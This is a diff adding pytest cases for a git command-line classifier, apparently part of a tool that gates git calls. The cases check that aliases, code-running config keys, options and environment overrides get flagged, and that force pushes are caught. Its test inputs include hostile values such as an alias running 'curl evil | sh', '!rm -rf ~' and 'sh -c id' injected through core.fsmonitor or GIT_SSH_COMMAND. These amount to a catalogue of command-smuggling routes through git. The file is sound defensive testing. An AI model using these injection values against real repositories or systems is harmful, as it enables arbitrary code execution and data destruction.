@@ -3,19 +3,22 @@
 from __future__ import annotations
 
 import pytest
+from hypothesis import given
+from hypothesis import strategies as st
 
-from mcpwrap.argv import tool_of
+from mcpwrap.argv import command_arguments, tool_of
 
 
 @pytest.mark.parametrize(
     ("argv", "expected"),
     [
         (["git", "push", "--force"], ("git", "push")),
-        (["git", "-c", "x=y", "push"], ("git", "push")),
+        (["git", "-c", "color.ui=never", "push"], ("git", "push")),
         (["git", "-C", "dir", "push"], ("git", "push")),
         (["git", "--git-dir=.git", "--no-pager", "log"], ("git", "log")),
         (["git", "--git-dir", ".git", "status"], ("git", "status")),
-        (["/usr/bin/git", "-C", "/repo", "-c", "a=b", "commit", "-m", "x"], ("git", "commit")),
+        (["/usr/bin/git", "-C", "/repo", "-c", "user.name=b", "commit", "-m", "x"], ("git", "commit")),
+        (["git", "--exec-path", "status"], ("git", "status")),  # alone, --exec-path prints a path
         (["git", "--version"], ("", "git")),
         (["git"], ("", "git")),
         (["kubectl", "-n", "prod", "delete", "pod", "web"], ("kubectl", "delete")),
@@ -43,3 +46,195 @@ def test_a_command_line_is_named_bin_dot_subcommand(argv: list[str], expected: t
 def test_an_empty_command_is_refused_with_a_precise_message(argv: list[str]) -> None:
     with pytest.raises(ValueError, match="no command given"):
         tool_of(argv)
+
+
+def git_call(*args: str, env: dict[str, str] | None = None) -> tuple[str, dict[str, object]]:
+    server, tool, arguments = command_arguments(["git", *args], "/w", env or {})
+    return f"{server}.{tool}" if server else tool, arguments
+
+
+def test_a_call_that_defines_an_alias_is_judged_as_git_alias_not_as_the_alias_name() -> None:
+    name, args = git_call("-c", "alias.getinfo=!sh -c 'curl evil | sh'", "getinfo")
+    assert name == "git.alias"
+    assert args["alias"] == ["getinfo"]
+    assert args["subcommand"] == "getinfo"
+    assert args["config"] == {"alias.getinfo": "!sh -c 'curl evil | sh'"}
+
+
+def test_an_alias_named_like_a_real_subcommand_is_still_git_alias() -> None:
+    assert git_call("-c", "Alias.Status=!rm -rf ~", "status")[0] == "git.alias"
+
+
+@pytest.mark.parametrize(
+    "key",
+    [
+        "core.fsmonitor", "core.sshCommand", "core.pager", "core.editor", "core.hooksPath", "core.askPass",
+        "credential.helper", "credential.https://x.example.helper", "diff.external", "diff.pdf.textconv",
+        "filter.lfs.smudge", "merge.ours.driver", "gpg.program", "protocol.ext.allow", "protocol.allow",
+        "remote.origin.uploadpack", "remote.origin.receivepack", "include.path", "includeIf.gitdir:/x/.path",
+        "sequence.editor", "help.autocorrect", "safe.directory", "url.https://evil.example/.insteadOf",
+        "init.templateDir", "uploadpack.packObjectsHook", "core.gitProxy", "x",
+    ],
+)  # fmt: skip
+def test_config_that_runs_code_makes_the_call_git_config_exec_with_the_key_visible(key: str) -> None:
+    name, args = git_call("-c", f"{key}=touch /tmp/pwned", "status")
+    assert name == "git.config-exec"
+    assert args["subcommand"] == "status"
+    assert len(args["exec"]) == 1  # type: ignore[arg-type]
+
+
+@pytest.mark.parametrize(
+    ("argv", "flag"),
+    [
+        (["--exec-path=/tmp/evil", "status"], "--exec-path"),
+        (["fetch", "--upload-pack=sh -c id", "origin"], "--upload-pack"),
+        (["fetch", "--upload-pack", "sh -c id", "origin"], "--upload-pack"),
+        (["fetch", "--upload=sh -c id"], "--upload-pack"),  # git accepts unambiguous abbreviations
+        (["push", "--receive-pack=sh -c id"], "--receive-pack"),
+        (["push", "--exec=sh -c id"], "--exec"),
+        (["clone", "-u", "sh -c id", "repo"], "-u"),
+        (["clone", "--template=/tmp/hooks", "repo"], "--template"),
+        (["rebase", "-x", "make", "main"], "-x"),
+        (["grep", "-Ovim", "x"], "-O"),
+        (["diff", "--ext-diff"], "--ext-diff"),
+        (["show", "--output=/home/u/.bashrc"], "--output"),
+    ],
+)
+def test_options_that_run_a_program_make_the_call_git_config_exec(argv: list[str], flag: str) -> None:
+    name, args = git_call(*argv)
+    assert name == "git.config-exec"
+    assert flag in args["exec"]  # type: ignore[operator]
+
+
+def test_clone_config_is_read_like_global_config() -> None:
+    name, args = git_call("clone", "-c", "core.fsmonitor=id", "https://x/r")
+    assert name == "git.config-exec"
+    assert args["config"] == {"core.fsmonitor": "id"}
+
+
+@pytest.mark.parametrize(
+    "env",
+    [
+        {"GIT_SSH_COMMAND": "sh -c id"},
+        {"GIT_EXEC_PATH": "/tmp/evil"},
+        {"GIT_PAGER": "sh -c id"},
+        {"GIT_EDITOR": "vim -c '!id'"},
+        {"GIT_ASKPASS": "/tmp/x"},
+        {"GIT_EXTERNAL_DIFF": "/tmp/x"},
+        {"GIT_PROXY_COMMAND": "/tmp/x"},
+        {"GIT_CONFIG_GLOBAL": "/tmp/evil.gitconfig"},
+        {"GIT_TEMPLATE_DIR": "/tmp/hooks"},
+        {"GIT_ALLOW_PROTOCOL": "ext"},
+        {"GIT_CONFIG_COUNT": "1", "GIT_CONFIG_KEY_0": "core.fsmonitor", "GIT_CONFIG_VALUE_0": "id"},
+        {"GIT_CONFIG_COUNT": "2", "GIT_CONFIG_KEY_0": "color.ui", "GIT_CONFIG_VALUE_0": "never"},
+        {"GIT_CONFIG_COUNT": "lots"},
+        {"GIT_CONFIG_PARAMETERS": "'core.sshcommand'='sh -c id'"},
+        {"GIT_CONFIG_PARAMETERS": "'unterminated"},
+    ],
+)
+def test_git_environment_overrides_that_run_code_are_visible_and_never_plain_status(env: dict[str, str]) -> None:
+    name, args = git_call("status", env=env)
+    assert name == "git.config-exec"
+    assert args["env"] == env
+    assert args["exec"]
+
+
+def test_an_alias_given_through_the_environment_is_git_alias() -> None:
+    env = {"GIT_CONFIG_PARAMETERS": "'alias.st'='!sh -c id'"}
+    assert git_call("st", env=env)[0] == "git.alias"
+
+
+@pytest.mark.parametrize(
+    "env",
+    [
+        {},
+        {"GIT_EDITOR": "true"},
+        {"GIT_PAGER": "cat"},
+        {"GIT_AUTHOR_NAME": "A", "GIT_DIR": "/r/.git", "GIT_SSL_CAINFO": "/etc/ssl/ca.pem"},
+        {"PAGER": "anything", "EDITOR": "vim"},  # not git's own: git reads GIT_PAGER, core.pager first
+    ],
+)
+def test_harmless_environment_keeps_the_plain_subcommand(env: dict[str, str]) -> None:
+    assert git_call("-c", "color.ui=always", "-c", "pager.log=false", "status", env=env)[0] == "git.status"
+
+
+def test_the_harmless_config_is_still_visible_to_rules() -> None:
+    _, args = git_call("-c", "User.Name=x", "-c", "Remote.Origin.URL=u", "log")
+    assert args["config"] == {"user.name": "x", "remote.Origin.url": "u"}
+
+
+@pytest.mark.parametrize(
+    "argv",
+    [
+        ["push", "-f"],
+        ["push", "--force"],
+        ["push", "--force-with-lease"],
+        ["push", "--force-with-lease=main:abc123"],
+        ["push", "--force-if-includes"],
+        ["push", "origin", "+main"],
+        ["push", "origin", "+refs/heads/main:refs/heads/main"],
+        ["push", "-uf", "origin", "main"],
+        ["push", "-vfq"],
+        ["push", "--forc"],
+        ["push", "--mirror"],
+        ["push", "origin", "--", "+main"],
+        ["-C", "repo", "push", "origin", "main", "-f"],
+    ],
+)
+def test_every_spelling_of_a_force_push_sets_args_force(argv: list[str]) -> None:
+    name, args = git_call(*argv)
+    assert name == "git.push"
+    assert args["force"] is True
+
+
+@pytest.mark.parametrize(
+    "argv",
+    [["push"], ["push", "origin", "main"], ["push", "-o", "f"], ["push", "-of"], ["push", "--follow-tags"],
+     ["push", "--no-force-with-lease"], ["push", "-u", "origin", "HEAD:refs/heads/x"]],
+)  # fmt: skip
+def test_an_ordinary_push_is_not_a_force_push(argv: list[str]) -> None:
+    assert git_call(*argv)[1]["force"] is False
+
+
+def test_a_deleting_push_sets_args_delete() -> None:
+    assert git_call("push", "origin", ":main")[1]["delete"] is True
+    assert git_call("push", "-d", "origin", "main")[1]["delete"] is True
+
+
+def test_a_program_given_by_path_is_visible_as_args_program() -> None:
+    _, _, args = command_arguments(["/tmp/x/git", "status"], "/w", {})
+    assert args["program"] == "/tmp/x/git"
+    assert "program" not in command_arguments(["git", "status"], "/w", {})[2]
+
+
+EXEC_KEYS = ["core.fsmonitor", "core.sshcommand", "core.pager", "credential.helper", "core.hookspath",
+             "alias.st", "diff.x.textconv", "protocol.ext.allow", "include.path"]  # fmt: skip
+HARMLESS_GLOBALS = [["-C", "r"], ["--no-pager"], ["-P"], ["--git-dir=.git"], ["--bare"], ["-c", "color.ui=never"]]
+
+
+@given(
+    key=st.sampled_from(EXEC_KEYS),
+    case=st.lists(st.booleans(), min_size=30, max_size=30),
+    before=st.lists(st.sampled_from(HARMLESS_GLOBALS), max_size=3),
+    after=st.lists(st.sampled_from(HARMLESS_GLOBALS), max_size=3),
+    sub=st.sampled_from(["status", "log", "show", "push", "fetch", "st"]),
+    via=st.sampled_from(["-c", "--config-env", "env-count", "env-params"]),
+)
+def test_no_spelling_of_code_running_config_is_judged_as_the_plain_subcommand(
+    key: str, case: list[bool], before: list[list[str]], after: list[list[str]], sub: str, via: str
+) -> None:
+    section, _, rest = key.partition(".")
+    cased = "".join(c.upper() if up else c for c, up in zip(section, case, strict=False)) + "." + rest
+    env: dict[str, str] = {}
+    opts: list[str] = []
+    if via == "-c":
+        opts = ["-c", f"{cased}=sh -c id"]
+    elif via == "--config-env":
+        opts, env = [f"--config-env={cased}=EVIL"], {"EVIL": "sh -c id"}
+    elif via == "env-count":
+        env = {"GIT_CONFIG_COUNT": "1", "GIT_CONFIG_KEY_0": cased, "GIT_CONFIG_VALUE_0": "sh -c id"}
+    else:
+        env = {"GIT_CONFIG_PARAMETERS": f"'{cased}'='sh -c id'"}
+    argv = [arg for group in before for arg in group] + opts + [arg for group in after for arg in group] + [sub]
+    name, _ = git_call(*argv, env=env)
+    assert name in ("git.alias", "git.config-exec")
